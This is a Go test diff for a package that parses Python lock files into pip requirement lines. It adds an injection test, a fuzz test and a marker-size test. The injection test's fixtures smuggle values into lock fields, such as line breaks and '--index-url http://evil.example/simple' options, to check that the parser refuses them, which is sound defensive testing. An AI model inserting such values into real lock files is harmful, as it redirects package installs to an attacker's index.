@@ -2,6 +2,7 @@ package recipes
 
 import (
 	"errors"
+	"fmt"
 	"os"
 	"path/filepath"
 	"slices"
@@ -354,4 +355,100 @@ func lockContext(t *testing.T, dir string) graph.Context {
 		t.Fatal(err)
 	}
 	return ctx
+}
+
+// TestLockFileInjection: what a lock gives a distribution (its name,
+// version and marker) becomes a line of the requirements its step hands
+// pip: a lock that writes a line break, an option or a comment into one
+// is refused, so no step reads an index, a file or a hash the lock's
+// fields did not name as such.
+func TestLockFileInjection(t *testing.T) {
+	lock, pyproject := fixture(t, "pylock", "pylock.toml")
+	for _, tt := range []struct{ name, old, new string }{
+		{name: "a line break in a name", old: `name = "hiredis"`, new: `name = "hiredis\n--index-url http://evil.example/simple\nx"`},
+		{name: "an option in a version", old: `version = "2.3.2"`, new: `version = "2.3.2 --index-url=http://evil.example/simple"`},
+		{name: "an option in a marker's string", old: `marker = "platform_machine == 'aarch64'"`, new: `marker = "platform_machine == ' --index-url=http://evil.example/simple'"`},
+		{name: "a line break in a marker's string", old: `marker = "platform_machine == 'aarch64'"`, new: `marker = "platform_machine == 'a\n--extra-index-url http://evil.example/simple\n'"`},
+		{name: "a comment in a marker's string", old: `marker = "platform_machine == 'aarch64'"`, new: `marker = "platform_machine == 'a #'"`},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			if !strings.Contains(string(lock), tt.old) {
+				t.Fatalf("pylock.toml has no %s", tt.old)
+			}
+			r, err := ParseLockFile("pylock.toml", []byte(strings.Replace(string(lock), tt.old, tt.new, 1)), pyproject, nil)
+			if err == nil {
+				var lines []string
+				for _, d := range r.Distributions {
+					lines = append(lines, d.requirement())
+				}
+				t.Fatalf("ParseLockFile took it: the steps' requirements are\n%s", strings.Join(lines, "\n"))
+			}
+			if strings.Contains(err.Error(), "\n") {
+				t.Errorf("an error of more than one line: %q", err)
+			}
+		})
+	}
+}
+
+// FuzzParseLockFile reads lock files as an attacker may write them, in
+// each format: ParseLockFile does not panic and errs in one line; what it
+// takes is locked, each distribution with sha256 hashes, and each
+// distribution's requirement line, the one its step hands pip, reads back
+// as that distribution alone.
+func FuzzParseLockFile(f *testing.F) {
+	for i, dir := range []string{"uv", "pylock", "poetry", "poetry2"} {
+		name := map[string]string{"uv": "uv.lock", "pylock": "pylock.toml", "poetry": "poetry.lock", "poetry2": "poetry.lock"}[dir]
+		lock, err := os.ReadFile(filepath.Join("testdata", "lockfiles", dir, name))
+		if err != nil {
+			f.Fatal(err)
+		}
+		pyproject, _ := os.ReadFile(filepath.Join("testdata", "lockfiles", dir, "pyproject.toml"))
+		f.Add(uint8(i), lock, pyproject, "")
+		f.Add(uint8(i), lock, pyproject, "dev")
+	}
+	f.Fuzz(func(t *testing.T, format uint8, lock, pyproject []byte, group string) {
+		name := LockFiles[int(format)%len(LockFiles)]
+		var groups []string
+		if group != "" {
+			groups = []string{group}
+		}
+		r, err := ParseLockFile(name, lock, pyproject, groups)
+		if err != nil {
+			if strings.Contains(err.Error(), "\n") {
+				t.Errorf("an error of more than one line: %q", err)
+			}
+			return
+		}
+		if !r.Locked || len(r.Options) > 0 || len(r.Projects) > 0 {
+			t.Errorf("ParseLockFile = %+v, want locked distributions alone", r)
+		}
+		for _, d := range r.Distributions {
+			if len(d.Hashes) == 0 {
+				t.Errorf("%s %s is locked without a hash", d.Name, d.Version)
+			}
+			again, err := ParseRequirements([]byte(d.requirement() + "\n"))
+			if err != nil || !again.Locked || len(again.Options) > 0 || len(again.Projects) > 0 {
+				t.Errorf("the requirement %q reads as %+v, %v", d.requirement(), again, err)
+				continue
+			}
+			if diff := cmp.Diff([]Distribution{d}, again.Distributions); diff != "" {
+				t.Errorf("the requirement %q reads back (-lock +requirements):\n%s", d.requirement(), diff)
+			}
+		}
+	})
+}
+
+// TestMarkerTooLarge: a marker whose normal form would hold more than
+// maxConjunctions alternatives is refused, not computed.
+func TestMarkerTooLarge(t *testing.T) {
+	var ands []string
+	for i := range 9 {
+		ands = append(ands, fmt.Sprintf(`(os_name == "a%d" or os_name == "b%d")`, i, i))
+	}
+	if _, err := parseMarker(strings.Join(ands, " and "), selection{}); !errors.Is(err, errMarkerTooLarge) {
+		t.Errorf("parseMarker of 2^9 alternatives: %v, want errMarkerTooLarge", err)
+	}
+	if _, err := parseMarker(strings.Join(ands[:8], " and "), selection{}); err != nil {
+		t.Errorf("parseMarker of 2^8 alternatives: %v", err)
+	}
 }
